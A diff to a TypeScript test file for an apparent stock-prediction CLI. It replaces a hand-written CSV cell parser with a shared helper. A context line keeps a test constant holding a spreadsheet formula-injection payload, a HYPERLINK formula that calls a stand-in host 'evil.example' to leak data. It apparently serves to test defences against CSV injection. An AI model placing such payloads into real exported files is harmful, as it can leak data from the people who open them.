@@ -5,35 +5,14 @@ import { featuresForFile } from '../../src/core/dataset/index.js';
 import { defaultFeatureSpec } from '../../src/core/features/index.js';
 import { N_CLASSES } from '../../src/core/labels/index.js';
 import { predictFile } from '../../src/core/predict/index.js';
-import { cleanup, fixture, tempDir } from '../helpers.js';
+import { cleanup, fixture, referenceCsvCells, tempDir } from '../helpers.js';
 import { json, mm } from './run-cli.js';
 
 const TRAIN = fixture('cli', 'NVDA_train.csv');
 const PREDICT = fixture('cli', 'NVDA_predict.csv');
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")';
 
-/** A simple RFC 4180 line splitter (quoted cells with doubled quotes). */
-function cells(line: string): string[] {
-  const out: string[] = [];
-  let cur = '';
-  let q = false;
-  for (let i = 0; i < line.length; i++) {
-    const ch = line[i] as string;
-    if (q) {
-      if (ch === '"' && line[i + 1] === '"') {
-        cur += '"';
-        i++;
-      } else if (ch === '"') q = false;
-      else cur += ch;
-    } else if (ch === '"') q = true;
-    else if (ch === ',') {
-      out.push(cur);
-      cur = '';
-    } else cur += ch;
-  }
-  out.push(cur);
-  return out;
-}
+const cells = referenceCsvCells;
 
 const same = (a: number, b: number): boolean => Object.is(a, b);
 
